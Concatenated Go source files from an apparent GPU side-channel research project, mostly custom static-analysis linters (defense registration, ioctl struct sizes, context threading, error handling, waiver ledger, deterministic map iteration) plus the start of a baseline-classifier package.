	ast.Inspect(e, func(n ast.Node) bool {
		if id, ok := n.(*ast.Ident); ok {
			if _, isConst := p.Pkg.Info.Uses[id].(*types.Const); isConst {
				magic = false
				return false
			}
		}
		return magic
	})
	return magic
}

// constUint evaluates a constant integer expression.
func (p *Pass) constUint(e ast.Expr) (uint64, bool) {
	tv, ok := p.Pkg.Info.Types[e]
	if !ok || tv.Value == nil {
		return 0, false
	}
	v, exact := constant.Uint64Val(constant.ToInt(tv.Value))
	return v, exact
}

func init() { Register(CounterGroup) }
