package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// DefenseReg enforces the defense plane's registration discipline, the
// mirror of channelreg for defense policies. The defense registry is
// only trustworthy if it is the one source of Policy values: every
// implementation registers itself from its package's init function, and
// every consumer resolves defenses at run time through defense.Get. Two
// shapes break that:
//
//  1. defense.Register calls inside ordinary functions register lazily,
//     so the advertised defense set (and the duplicate-name panic)
//     depends on execution path instead of the import graph;
//  2. constructing a Policy implementation outside an init function
//     bypasses the registry entirely — callers would hold defenses the
//     facade, /healthz and the arms tournament cannot see.
//
// The defense package itself is exempt: its tests exercise the registry
// with throwaway implementations, and the chain combinator derives
// composite policies at resolve time by design.
var DefenseReg = &Analyzer{
	Name:     "defensereg",
	Category: "hygiene",
	Doc:      "defenses must be registered via defense.Register from init and constructed only there; consumers resolve them through defense.Get",
	Applies: func(pkgPath string) bool {
		return !strings.HasSuffix(pkgPath, "internal/defense")
	},
	Run: runDefenseReg,
}

const defensePkgSuffix = "internal/defense"

func isDefensePkg(pkg *types.Package) bool {
	return pkg != nil && strings.HasSuffix(pkg.Path(), defensePkgSuffix)
}

// defenseIface resolves the defense.Policy interface type through the
// package's imports; nil when the package never imports the defense
// plane (nothing to check then — implementing the interface without
// importing it is impossible, its methods mention defense.Instance).
func defenseIface(p *Pass) *types.Interface {
	for _, imp := range p.Pkg.Types.Imports() {
		if !strings.HasSuffix(imp.Path(), defensePkgSuffix) {
			continue
		}
		obj := imp.Scope().Lookup("Policy")
		if obj == nil {
			continue
		}
		if iface, ok := obj.Type().Underlying().(*types.Interface); ok {
			return iface
		}
	}
	return nil
}

func runDefenseReg(p *Pass) {
	iface := defenseIface(p)
	for _, file := range p.Pkg.Files {
		// Package initialization is the only place registration (and hence
		// construction) of a defense is legitimate: init function bodies
		// and package-level var initializers, which run at the same time.
		var initRanges []ast.Node
		for _, decl := range file.Decls {
			switch d := decl.(type) {
			case *ast.FuncDecl:
				if d.Name.Name == "init" && d.Recv == nil && d.Body != nil {
					initRanges = append(initRanges, d.Body)
				}
			case *ast.GenDecl:
				if d.Tok == token.VAR {
					initRanges = append(initRanges, d)
				}
			}
		}
		// Function literals defer execution past initialization even when
		// declared inside an init range, so their bodies don't count.
		var litBodies []ast.Node
		ast.Inspect(file, func(n ast.Node) bool {
			if fl, ok := n.(*ast.FuncLit); ok && fl.Body != nil {
				litBodies = append(litBodies, fl.Body)
			}
			return true
		})
		inInit := func(n ast.Node) bool {
			for _, b := range litBodies {
				if b.Pos() <= n.Pos() && n.End() <= b.End() {
					return false
				}
			}
			for _, b := range initRanges {
				if b.Pos() <= n.Pos() && n.End() <= b.End() {
					return true
				}
			}
			return false
		}

		ast.Inspect(file, func(n ast.Node) bool {
			switch e := n.(type) {
			case *ast.CallExpr:
				if fn := calledFunc(p, e); fn != nil &&
					fn.Name() == "Register" && isDefensePkg(fn.Pkg()) && !inInit(e) {
					p.Reportf(e.Pos(), "defense.Register outside an init function registers defenses lazily: register from the implementing package's init")
				}
			case *ast.CompositeLit:
				if iface == nil || inInit(e) {
					return true
				}
				t := p.TypeOf(e)
				if t == nil {
					return true
				}
				if types.Implements(t, iface) || types.Implements(types.NewPointer(t), iface) {
					p.Reportf(e.Pos(), "constructing a defense.Policy implementation outside init bypasses the registry: resolve defenses with defense.Get")
				}
			}
			return true
		})
	}
}

func init() { Register(DefenseReg) }
