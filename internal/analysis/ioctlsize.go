package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// IoctlSize verifies that ioctl request codes built with local
// iowr/iow/ior helpers declare a size argument consistent with the Go
// struct they marshal. The kernel dispatches KGSL ioctls on the full
// request code — size bits included — so a drifted size is a request the
// real driver would reject with ENOTTY even though the simulation happily
// accepts it.
//
// Convention: a var (or const) named Ioctl<Name> built from iowr/iow/ior
// marshals the struct type <Name> declared in the same package. Struct
// sizes follow the 64-bit kernel ABI: fixed-width integers take their
// own width, pointers take 8 bytes, and a slice field stands for the
// msm_kgsl.h "user pointer + u32 element count" pair (8-aligned pointer
// followed by a uint32). Fields align to their size; the struct pads to
// its widest alignment.
var IoctlSize = &Analyzer{
	Name:     "ioctlsize",
	Category: "driver-fidelity",
	Doc:      "verify iowr(nr, size) sizes match the marshalled struct's kernel ABI size",
	Run:      runIoctlSize,
}

func runIoctlSize(p *Pass) {
	ctors := map[types.Object]bool{}
	for _, f := range p.Pkg.Files {
		for _, d := range f.Decls {
			fd, ok := d.(*ast.FuncDecl)
			if !ok || fd.Recv != nil {
				continue
			}
			switch fd.Name.Name {
			case "iowr", "iow", "ior":
				if obj := p.Pkg.Info.Defs[fd.Name]; obj != nil {
					ctors[obj] = true
				}
			}
		}
	}
	if len(ctors) == 0 {
		return
	}
	for _, f := range p.Pkg.Files {
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok || (gd.Tok != token.VAR && gd.Tok != token.CONST) {
				continue
			}
			for _, spec := range gd.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				for i, name := range vs.Names {
					if i >= len(vs.Values) {
						continue
					}
					p.checkIoctlDecl(ctors, name, vs.Values[i])
				}
			}
		}
	}
}

func (p *Pass) checkIoctlDecl(ctors map[types.Object]bool, name *ast.Ident, value ast.Expr) {
	structName, ok := strings.CutPrefix(name.Name, "Ioctl")
	if !ok || structName == "" {
		return
	}
	call, ok := value.(*ast.CallExpr)
	if !ok || len(call.Args) < 2 {
		return
	}
	callee, ok := call.Fun.(*ast.Ident)
	if !ok || !ctors[p.Pkg.Info.Uses[callee]] {
		return
	}
	sizeArg := call.Args[len(call.Args)-1]
	declared, ok := p.constUint(sizeArg)
	if !ok {
		p.Reportf(sizeArg.Pos(), "%s: ioctl size argument is not a compile-time constant", name.Name)
		return
	}
	obj := p.Pkg.Types.Scope().Lookup(structName)
	tn, ok := obj.(*types.TypeName)
	if !ok {
		return // no matching struct to verify against
	}
	st, ok := tn.Type().Underlying().(*types.Struct)
	if !ok {
		return
	}
	size, _, err := abiStructSize(st)
	if err != nil {
		p.Reportf(name.Pos(), "%s: cannot compute kernel ABI size of %s: %v", name.Name, structName, err)
		return
	}
	if size != declared {
		p.Reportf(sizeArg.Pos(),
			"%s declares ioctl size %d but struct %s marshals to %d bytes under the 64-bit kernel ABI",
			name.Name, declared, structName, size)
	}
}

// abiStructSize lays a struct out under the 64-bit kernel ABI.
func abiStructSize(st *types.Struct) (size, align uint64, err error) {
	var off, maxAlign uint64 = 0, 1
	place := func(s, a uint64) {
		off = roundUp(off, a)
		off += s
		if a > maxAlign {
			maxAlign = a
		}
	}
	for i := 0; i < st.NumFields(); i++ {
		field := st.Field(i)
		if _, isSlice := field.Type().Underlying().(*types.Slice); isSlice {
			// msm_kgsl.h convention: user pointer + u32 element count.
			place(8, 8)
			place(4, 4)
			continue
		}
		s, a, err := abiTypeSize(field.Type())
		if err != nil {
			return 0, 0, fmt.Errorf("field %s: %w", field.Name(), err)
		}
		place(s, a)
	}
	return roundUp(off, maxAlign), maxAlign, nil
}

// abiTypeSize sizes a single non-slice type under the 64-bit kernel ABI.
func abiTypeSize(t types.Type) (size, align uint64, err error) {
	switch u := t.Underlying().(type) {
	case *types.Basic:
		switch u.Kind() {
		case types.Bool, types.Int8, types.Uint8:
			return 1, 1, nil
		case types.Int16, types.Uint16:
			return 2, 2, nil
		case types.Int32, types.Uint32, types.Float32:
			return 4, 4, nil
		case types.Int64, types.Uint64, types.Float64:
			return 8, 8, nil
		case types.UnsafePointer:
			return 8, 8, nil
		case types.Int, types.Uint, types.Uintptr:
			return 0, 0, fmt.Errorf("platform-dependent %s; use a fixed-width type", u)
		default:
			return 0, 0, fmt.Errorf("unsupported basic type %s", u)
		}
	case *types.Pointer:
		return 8, 8, nil
	case *types.Array:
		es, ea, err := abiTypeSize(u.Elem())
		if err != nil {
			return 0, 0, err
		}
		return roundUp(es, ea) * uint64(u.Len()), ea, nil
	case *types.Struct:
		return abiStructSize(u)
	default:
		return 0, 0, fmt.Errorf("unsupported type %s", t)
	}
}

func roundUp(n, align uint64) uint64 {
	if align == 0 {
		return n
	}
	return (n + align - 1) / align * align
}

func init() { Register(IoctlSize) }
