package analysis

import (
	"go/ast"
	"go/types"
)

// CtxFlow enforces end-to-end context threading through internal/. The
// serving layer's cancellation guarantees (a canceled request stops at
// the next sampler tick, drains cleanly, and never completes a sweep it
// no longer needs) only hold if every layer passes the caller's context
// down instead of minting a fresh root. Two shapes break the chain:
//
//  1. context.Background()/context.TODO() in library code silently
//     detaches everything below it from cancellation. Both are forbidden
//     in internal/ outside _test.go files; Background is additionally
//     allowed in exactly two documented legacy shapes — a single-
//     statement wrapper that delegates to a context-aware callee (the
//     "legacy signature as context.Background wrapper" pattern the
//     facade documents), and a documented resolver whose result type is
//     context.Context (Options.Context-style defaulting). TODO is never
//     allowed: it is a marker for unfinished plumbing.
//
//  2. A function already holding a context.Context that calls the
//     context-free variant of a callee with a *Context/*Ctx sibling
//     drops the context on the floor mid-chain: the callee runs
//     uncancellable even though the caller could have threaded it.
var CtxFlow = &Analyzer{
	Name:     "ctxflow",
	Category: "determinism",
	Doc:      "context.Context must thread end-to-end: no Background/TODO in internal/ outside tests and documented legacy wrappers; context holders must call *Context variants",
	Applies:  isInternalPath,
	Run:      runCtxFlow,
}

func init() { Register(CtxFlow) }

func runCtxFlow(p *Pass) {
	eachFuncDecl(p.Pkg, func(file *ast.File, fn *ast.FuncDecl) {
		if isTestFile(p, fn) {
			return
		}
		ctxParams := contextParams(p, fn)
		ast.Inspect(fn.Body, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			callee := calledFunc(p, call)
			if callee == nil {
				return true
			}
			checkRootContext(p, fn, call, callee, len(ctxParams) > 0)
			if len(ctxParams) > 0 {
				checkDroppedContext(p, call, callee)
			}
			return true
		})
	})
}

// contextParams returns the function's context.Context parameter objects.
func contextParams(p *Pass, fn *ast.FuncDecl) []types.Object {
	var out []types.Object
	if fn.Type.Params == nil {
		return nil
	}
	for _, field := range fn.Type.Params.List {
		for _, name := range field.Names {
			obj := p.Pkg.Info.Defs[name]
			if obj != nil && isContextType(obj.Type()) {
				out = append(out, obj)
			}
		}
	}
	return out
}

// checkRootContext reports context.Background()/TODO() calls outside the
// two sanctioned legacy shapes.
func checkRootContext(p *Pass, fn *ast.FuncDecl, call *ast.CallExpr, callee *types.Func, holdsCtx bool) {
	if callee.Pkg() == nil || callee.Pkg().Path() != "context" {
		return
	}
	switch callee.Name() {
	case "TODO":
		p.Reportf(call.Pos(), "context.TODO marks unfinished plumbing: thread the caller's context (or use a documented context.Background legacy wrapper)")
	case "Background":
		if holdsCtx {
			p.Reportf(call.Pos(), "context.Background inside a function that already holds a context detaches the callee from cancellation: pass the context parameter instead")
			return
		}
		if isLegacyWrapper(p, fn, call) || isContextResolver(p, fn) {
			return
		}
		p.Reportf(call.Pos(), "context.Background in library code detaches everything below from cancellation: accept a context.Context, or shape this as a documented single-statement legacy wrapper")
	}
}

// isLegacyWrapper recognizes the documented legacy-signature shape: a
// function with a doc comment whose body is a single statement passing
// context.Background() straight into a context-aware callee, e.g.
//
//	// Collect is CollectContext with a background context.
//	func (s *Sampler) Collect(a, b sim.Time) (*trace.Trace, error) {
//		return s.CollectContext(context.Background(), a, b)
//	}
func isLegacyWrapper(p *Pass, fn *ast.FuncDecl, bg *ast.CallExpr) bool {
	if fn.Doc == nil || len(fn.Body.List) != 1 {
		return false
	}
	var outer *ast.CallExpr
	switch st := fn.Body.List[0].(type) {
	case *ast.ReturnStmt:
		if len(st.Results) == 1 {
			outer, _ = ast.Unparen(st.Results[0]).(*ast.CallExpr)
		}
	case *ast.ExprStmt:
		outer, _ = ast.Unparen(st.X).(*ast.CallExpr)
	}
	if outer == nil || len(outer.Args) == 0 || ast.Unparen(outer.Args[0]) != bg {
		return false
	}
	callee := calledFunc(p, outer)
	if callee == nil {
		return false
	}
	sig, _ := callee.Type().(*types.Signature)
	return firstParamIsContext(sig)
}

// isContextResolver recognizes the documented defaulting-resolver shape:
// a function with a doc comment whose sole result type is
// context.Context (Options.Context returning the configured context or
// Background when unset).
func isContextResolver(p *Pass, fn *ast.FuncDecl) bool {
	if fn.Doc == nil || fn.Type.Results == nil || len(fn.Type.Results.List) != 1 {
		return false
	}
	t := p.TypeOf(fn.Type.Results.List[0].Type)
	return t != nil && isContextType(t)
}

// checkDroppedContext reports calls from a context-holding function to a
// context-free callee that has a context-aware sibling (same name with a
// Context/Ctx suffix, leading context.Context parameter) on the same
// receiver or in the same package.
func checkDroppedContext(p *Pass, call *ast.CallExpr, callee *types.Func) {
	sig, _ := callee.Type().(*types.Signature)
	if sig == nil || firstParamIsContext(sig) {
		return
	}
	for _, suffix := range []string{"Context", "Ctx"} {
		sibling := lookupSibling(callee, callee.Name()+suffix)
		if sibling == nil {
			continue
		}
		sibSig, _ := sibling.Type().(*types.Signature)
		if firstParamIsContext(sibSig) {
			p.Reportf(call.Pos(), "%s drops the context this function already holds: call %s with it", callee.Name(), sibling.Name())
			return
		}
	}
}

// lookupSibling finds a function or method named name alongside fn: in
// the method set of fn's receiver for methods, in fn's package scope for
// plain functions.
func lookupSibling(fn *types.Func, name string) *types.Func {
	sig, _ := fn.Type().(*types.Signature)
	if sig == nil {
		return nil
	}
	if recv := sig.Recv(); recv != nil {
		named := recvNamed(recv.Type())
		if named == nil {
			return nil
		}
		if iface, ok := named.Underlying().(*types.Interface); ok {
			for i := 0; i < iface.NumMethods(); i++ {
				if m := iface.Method(i); m.Name() == name {
					return m
				}
			}
			return nil
		}
		for i := 0; i < named.NumMethods(); i++ {
			if m := named.Method(i); m.Name() == name {
				return m
			}
		}
		return nil
	}
	if fn.Pkg() == nil {
		return nil
	}
	sib, _ := fn.Pkg().Scope().Lookup(name).(*types.Func)
	return sib
}
