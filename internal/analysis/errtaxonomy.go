package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"path/filepath"
)

// ErrTaxonomy enforces the repository's typed error discipline. The
// serving layer maps error identity onto HTTP statuses and the fault
// plane classifies retryability by identity, so identity must flow
// through errors.Is/As — never string matching, never raw pointer
// equality against wrapped values. Three rules:
//
//  1. No err.Error() string matching: comparing or strings.Contains-ing
//     rendered text breaks the moment a layer wraps the error with
//     context. Rendering for display (logs, HTTP bodies) stays legal.
//
//  2. No ==/!= between error values unless the other operand is nil or
//     a package-level sentinel variable: wrapped errors never compare
//     equal, so non-sentinel equality is either dead or wrong. (Even for
//     sentinels errors.Is is the idiom; == against a declared sentinel
//     is tolerated because it is at least identity-correct.)
//
//  3. The facade's public taxonomy lives in errors.go: every exported
//     package-level error value of the root package must be declared
//     there, so the whole surface a caller can errors.Is against is
//     readable from one file.
var ErrTaxonomy = &Analyzer{
	Name:     "errtaxonomy",
	Category: "taxonomy",
	Doc:      "error identity flows through errors.Is/As: no err.Error() matching, no == against non-sentinel errors, facade taxonomy lives in errors.go",
	Run:      runErrTaxonomy,
}

func init() { Register(ErrTaxonomy) }

// stringMatchFuncs are the strings/bytes/regexp helpers that turn a
// rendered error into a match decision.
var stringMatchFuncs = map[string]map[string]bool{
	"strings": {
		"Contains": true, "HasPrefix": true, "HasSuffix": true,
		"EqualFold": true, "Index": true, "Count": true,
	},
	"regexp": {"MatchString": true},
}

func runErrTaxonomy(p *Pass) {
	for _, file := range p.Pkg.Files {
		if isTestFile(p, file) {
			// Tests legitimately pin rendered messages (asserting the
			// exact text of a public error is a contract test).
			continue
		}
		ast.Inspect(file, func(n ast.Node) bool {
			switch x := n.(type) {
			case *ast.BinaryExpr:
				if x.Op == token.EQL || x.Op == token.NEQ {
					checkErrComparison(p, x)
				}
			case *ast.CallExpr:
				checkStringMatch(p, x)
			}
			return true
		})
	}
	checkFacadeTaxonomy(p)
}

// errErrorCall reports whether e is a call to the error interface's
// Error method (directly on an error-typed value).
func errErrorCall(p *Pass, e ast.Expr) bool {
	call, ok := ast.Unparen(e).(*ast.CallExpr)
	if !ok || len(call.Args) != 0 {
		return false
	}
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != "Error" {
		return false
	}
	recv := p.TypeOf(sel.X)
	return recv != nil && implementsError(recv)
}

// checkErrComparison applies rules 1 and 2 to one ==/!= expression.
func checkErrComparison(p *Pass, be *ast.BinaryExpr) {
	// Rule 1: either side renders an error to text for the comparison.
	if errErrorCall(p, be.X) || errErrorCall(p, be.Y) {
		p.Reportf(be.Pos(), "comparing err.Error() text breaks under wrapping: match identity with errors.Is (or errors.As for typed errors)")
		return
	}
	// Rule 2: error identity compared with == against a non-sentinel.
	xt, yt := p.TypeOf(be.X), p.TypeOf(be.Y)
	if !isErrorType(xt) && !isErrorType(yt) {
		return
	}
	for _, side := range []ast.Expr{be.X, be.Y} {
		t := p.TypeOf(side)
		if t == nil {
			continue
		}
		if b, ok := t.(*types.Basic); ok && b.Kind() == types.UntypedNil {
			return // err == nil / err != nil is the canonical check
		}
	}
	// Both sides are real error values: one of them must be a declared
	// package-level sentinel for == to be identity-correct.
	if isSentinel(p, be.X) || isSentinel(p, be.Y) {
		return
	}
	p.Reportf(be.Pos(), "==/!= between non-sentinel error values never matches wrapped errors: use errors.Is/errors.As")
}

// isSentinel reports whether the expression resolves to a package-level
// error variable (an exported or unexported sentinel like io.EOF).
func isSentinel(p *Pass, e ast.Expr) bool {
	var id *ast.Ident
	switch x := ast.Unparen(e).(type) {
	case *ast.Ident:
		id = x
	case *ast.SelectorExpr:
		id = x.Sel
	default:
		return false
	}
	v, ok := p.Pkg.Info.Uses[id].(*types.Var)
	return ok && isPackageLevel(v) && isErrorType(v.Type())
}

// checkStringMatch applies rule 1 to strings.Contains-style calls whose
// arguments derive from err.Error().
func checkStringMatch(p *Pass, call *ast.CallExpr) {
	callee := calledFunc(p, call)
	if callee == nil || callee.Pkg() == nil {
		return
	}
	funcs := stringMatchFuncs[callee.Pkg().Path()]
	if funcs == nil || !funcs[callee.Name()] {
		return
	}
	for _, arg := range call.Args {
		if errErrorCall(p, arg) {
			p.Reportf(arg.Pos(), "%s.%s over err.Error() text breaks under wrapping: match identity with errors.Is/errors.As", callee.Pkg().Name(), callee.Name())
			return
		}
	}
}

// checkFacadeTaxonomy applies rule 3: in the module root package, every
// exported package-level error value must be declared in errors.go.
func checkFacadeTaxonomy(p *Pass) {
	if p.Pkg.Types == nil || p.Pkg.Path != p.Pkg.Types.Name() {
		// Only the facade (import path == package name, i.e. the module
		// root "gpuleak") carries the public taxonomy rule.
		return
	}
	scope := p.Pkg.Types.Scope()
	for _, name := range scope.Names() {
		v, ok := scope.Lookup(name).(*types.Var)
		if !ok || !v.Exported() || !implementsError(v.Type()) {
			continue
		}
		pos := p.Fset.Position(v.Pos())
		if filepath.Base(pos.Filename) == "errors.go" {
			continue
		}
		p.Reportf(v.Pos(), "exported error value %s must live in errors.go, the facade's public taxonomy file", name)
	}
}
