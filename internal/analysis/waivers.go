package analysis

import (
	"encoding/json"
	"fmt"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Waiver-budget ledger: every //gpuvet:ignore directive in the tree is
// debt, and gpuvet-waivers.json is the committed ledger of that debt.
// The driver counts the directives actually present (per check, via the
// same parser the suppression index uses) and fails when the counts
// drift from the ledger in either direction — a new waiver needs a
// ledger entry explaining itself in the same change, and a removed
// waiver must ratchet the ledger down so the budget cannot be silently
// reused later.

// WaiverSchema is the ledger file's schema identifier.
const WaiverSchema = "gpuvet-waivers/v1"

// WaiverLedger is the parsed gpuvet-waivers.json.
type WaiverLedger struct {
	Schema string `json:"schema"`
	// Note is free-form documentation carried in the file.
	Note string `json:"note,omitempty"`
	// Budgets maps check name -> allowed directive count. A bare
	// //gpuvet:ignore (no check names) counts under "any".
	Budgets map[string]int `json:"budgets"`
	// Entries documents each waiver; per check they must tally with the
	// budget, so the ledger cannot budget debt it does not explain.
	Entries []WaiverEntry `json:"entries"`
}

// WaiverEntry documents one //gpuvet:ignore directive.
type WaiverEntry struct {
	Check string `json:"check"`
	File  string `json:"file"`
	Why   string `json:"why"`
}

// LoadWaiverLedger reads and validates a ledger file.
func LoadWaiverLedger(path string) (*WaiverLedger, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var l WaiverLedger
	if err := json.Unmarshal(data, &l); err != nil {
		return nil, fmt.Errorf("analysis: parsing %s: %w", path, err)
	}
	if l.Schema != WaiverSchema {
		return nil, fmt.Errorf("analysis: %s has schema %q, want %q", path, l.Schema, WaiverSchema)
	}
	return &l, nil
}

// CountWaivers walks every .go file under the module root (skipping
// testdata, hidden and underscore directories — fixtures exercise
// directives on purpose) and tallies gpuvet:ignore directives per check
// name. Bare directives count under "any". Test files are included:
// a waiver is debt wherever it lives.
func CountWaivers(moduleRoot string) (map[string]int, error) {
	counts := map[string]int{}
	fset := token.NewFileSet()
	err := filepath.WalkDir(moduleRoot, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			name := d.Name()
			if path != moduleRoot && (name == "testdata" || strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(d.Name(), ".go") {
			return nil
		}
		f, perr := parser.ParseFile(fset, path, nil, parser.ParseComments|parser.SkipObjectResolution)
		if perr != nil {
			// Unparseable files are the build's problem, not the ledger's.
			return nil
		}
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				checks, ok := parseIgnoreDirective(c.Text)
				if !ok {
					continue
				}
				for _, check := range checks {
					if check == "" {
						check = "any"
					}
					counts[check]++
				}
			}
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return counts, nil
}

// Check compares actual directive counts against the ledger and returns
// one human-readable problem per drift (empty means the ledger is
// exact).
func (l *WaiverLedger) Check(counts map[string]int) []string {
	var problems []string
	checks := map[string]bool{}
	for c := range counts {
		checks[c] = true
	}
	for c := range l.Budgets {
		checks[c] = true
	}
	entryCounts := map[string]int{}
	for _, e := range l.Entries {
		entryCounts[e.Check] = entryCounts[e.Check] + 1
		checks[e.Check] = true
	}
	names := make([]string, 0, len(checks))
	for c := range checks {
		names = append(names, c)
	}
	sort.Strings(names)
	for _, c := range names {
		actual, budget, entries := counts[c], l.Budgets[c], entryCounts[c]
		if actual > budget {
			problems = append(problems, fmt.Sprintf("check %q has %d //gpuvet:ignore directive(s) but the ledger budgets %d: add a ledger entry (with a why) and raise the budget in the same change", c, actual, budget))
		}
		if actual < budget {
			problems = append(problems, fmt.Sprintf("check %q has %d //gpuvet:ignore directive(s) but the ledger still budgets %d: ratchet the budget down", c, actual, budget))
		}
		if entries != budget {
			problems = append(problems, fmt.Sprintf("check %q budgets %d waiver(s) but documents %d ledger entries: entries must tally with the budget", c, budget, entries))
		}
	}
	return problems
}
