package analysis

import (
	"go/ast"
	"go/types"
	"strings"
)

// DetMap enforces the determinism contract at map-iteration sites. Go
// randomizes map iteration order, so any map range whose per-entry
// results reach ordered output — JSONL telemetry lines, report table
// rows, HTTP response bodies, accumulated slices — produces a different
// byte stream every run unless the entries pass through a sort first.
// Two shapes are flagged:
//
//  1. Serializing directly from inside the loop body (fmt.Fprint*/Print*,
//     io.WriteString, Write/WriteString/Encode/AddRow method calls): the
//     output order is the map's random order. Collect the keys, sort,
//     then emit.
//
//  2. Appending to a slice declared outside the loop that is never
//     passed through sort.*/slices.Sort* later in the same function: the
//     slice's element order is scheduling-dependent the moment it
//     escapes. (The collect-then-sort idiom — append keys, sort.Strings,
//     range the sorted slice — is exactly what passes.)
//
// Order-independent bodies (building another map, summing, counting,
// min/max folds) stay silent.
var DetMap = &Analyzer{
	Name:     "detmap",
	Category: "determinism",
	Doc:      "map iteration feeding ordered output (serialization, report slices) must pass through a sort",
	Run:      runDetMap,
}

func init() { Register(DetMap) }

// serializeMethods are method names that commit bytes or rows in call
// order. A map-range body calling one of these serializes in random
// order.
var serializeMethods = map[string]bool{
	"Write":       true,
	"WriteString": true,
	"WriteByte":   true,
	"WriteRune":   true,
	"Encode":      true,
	"AddRow":      true,
	"Emit":        true,
}

func runDetMap(p *Pass) {
	eachFuncDecl(p.Pkg, func(file *ast.File, fn *ast.FuncDecl) {
		ast.Inspect(fn.Body, func(n ast.Node) bool {
			rng, ok := n.(*ast.RangeStmt)
			if !ok {
				return true
			}
			t := p.TypeOf(rng.X)
			if t == nil {
				return true
			}
			if _, isMap := t.Underlying().(*types.Map); !isMap {
				return true
			}
			checkMapRange(p, fn, rng)
			return true
		})
	})
}

func checkMapRange(p *Pass, fn *ast.FuncDecl, rng *ast.RangeStmt) {
	ast.Inspect(rng.Body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.CallExpr:
			if sink, name := serializationSink(p, x); sink {
				p.Reportf(x.Pos(), "%s inside a map range serializes in random iteration order: collect the keys, sort, then emit", name)
			}
		case *ast.AssignStmt:
			checkAppendAccumulation(p, fn, rng, x)
		}
		return true
	})
}

// serializationSink reports whether the call commits ordered output.
func serializationSink(p *Pass, call *ast.CallExpr) (bool, string) {
	callee := calledFunc(p, call)
	if callee == nil {
		return false, ""
	}
	if pkg := callee.Pkg(); pkg != nil {
		switch pkg.Path() {
		case "fmt":
			name := callee.Name()
			if strings.HasPrefix(name, "Print") || strings.HasPrefix(name, "Fprint") {
				return true, "fmt." + name
			}
		case "io":
			if callee.Name() == "WriteString" {
				return true, "io.WriteString"
			}
		}
	}
	sig, _ := callee.Type().(*types.Signature)
	if sig != nil && sig.Recv() != nil && serializeMethods[callee.Name()] {
		return true, callee.Name()
	}
	return false, ""
}

// checkAppendAccumulation flags `s = append(s, ...)` in a map-range body
// when s is declared outside the loop and never sorted afterwards in the
// enclosing function.
func checkAppendAccumulation(p *Pass, fn *ast.FuncDecl, rng *ast.RangeStmt, as *ast.AssignStmt) {
	for i, rhs := range as.Rhs {
		call, ok := ast.Unparen(rhs).(*ast.CallExpr)
		if !ok {
			continue
		}
		id, ok := ast.Unparen(call.Fun).(*ast.Ident)
		if !ok || id.Name != "append" {
			continue
		}
		if _, isBuiltin := p.Pkg.Info.Uses[id].(*types.Builtin); !isBuiltin {
			continue
		}
		lhs := as.Lhs[0]
		if len(as.Lhs) == len(as.Rhs) {
			lhs = as.Lhs[i]
		}
		obj := rootIdentObj(p, lhs)
		if obj == nil {
			continue
		}
		// Declared inside the loop body: per-entry scratch, ordering local.
		if rng.Body.Pos() <= obj.Pos() && obj.Pos() <= rng.Body.End() {
			continue
		}
		if sortedAfter(p, fn, rng, obj) {
			continue
		}
		p.Reportf(as.Pos(), "appending %s across a map range accumulates in random iteration order and it is never sorted in %s: sort it (sort.*/slices.Sort*) before it escapes", obj.Name(), fn.Name.Name)
	}
}

// sortedAfter reports whether the enclosing function passes obj to a
// sort.*/slices.* call after the range statement ends.
func sortedAfter(p *Pass, fn *ast.FuncDecl, rng *ast.RangeStmt, obj types.Object) bool {
	found := false
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		if found {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok || call.Pos() < rng.End() {
			return true
		}
		callee := calledFunc(p, call)
		if callee == nil || callee.Pkg() == nil {
			return true
		}
		if pkgPath := callee.Pkg().Path(); pkgPath != "sort" && pkgPath != "slices" {
			return true
		}
		for _, arg := range call.Args {
			if rootIdentObj(p, arg) == obj {
				found = true
				return false
			}
			// sort.Slice(x, func(i, j int) bool { ... }) mentions x first.
			ast.Inspect(arg, func(m ast.Node) bool {
				if id, ok := m.(*ast.Ident); ok && p.Pkg.Info.Uses[id] == obj {
					found = true
					return false
				}
				return !found
			})
			if found {
				return false
			}
		}
		return true
	})
	return found
}
