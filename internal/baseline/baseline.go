// Package baseline implements the classical classifiers the paper uses to
// evaluate prior work in Table 2: Gaussian Naive Bayes, k-nearest
// neighbors (KNN3), and a Random Forest. They are generic supervised
// classifiers over dense float feature vectors and are reused by the
// ablation experiments.
package baseline

import (
	"fmt"
	"math"
	"sort"

	"gpuleak/internal/sim"
)

// Dataset is a labeled collection of feature vectors.
type Dataset struct {
	X [][]float64
	Y []int
}

// Add appends one sample.
func (d *Dataset) Add(x []float64, y int) {
	d.X = append(d.X, x)
	d.Y = append(d.Y, y)
}

// Len returns the number of samples.
func (d *Dataset) Len() int { return len(d.X) }

// Validate checks internal consistency.
func (d *Dataset) Validate() error {
	if len(d.X) != len(d.Y) {
		return fmt.Errorf("baseline: %d samples, %d labels", len(d.X), len(d.Y))
	}
	if len(d.X) == 0 {
		return fmt.Errorf("baseline: empty dataset")
	}
	dim := len(d.X[0])
	for i, x := range d.X {
		if len(x) != dim {
			return fmt.Errorf("baseline: sample %d has dim %d, want %d", i, len(x), dim)
		}
	}
	return nil
}

// Classifier is a supervised classifier.
type Classifier interface {
	Fit(d *Dataset) error
	Predict(x []float64) int
	Name() string
}

// Accuracy scores a classifier over a labeled test set.
func Accuracy(c Classifier, test *Dataset) float64 {
	if test.Len() == 0 {
		return 0
	}
	hit := 0
	for i, x := range test.X {
		if c.Predict(x) == test.Y[i] {
			hit++
		}
	}
	return float64(hit) / float64(test.Len())
}

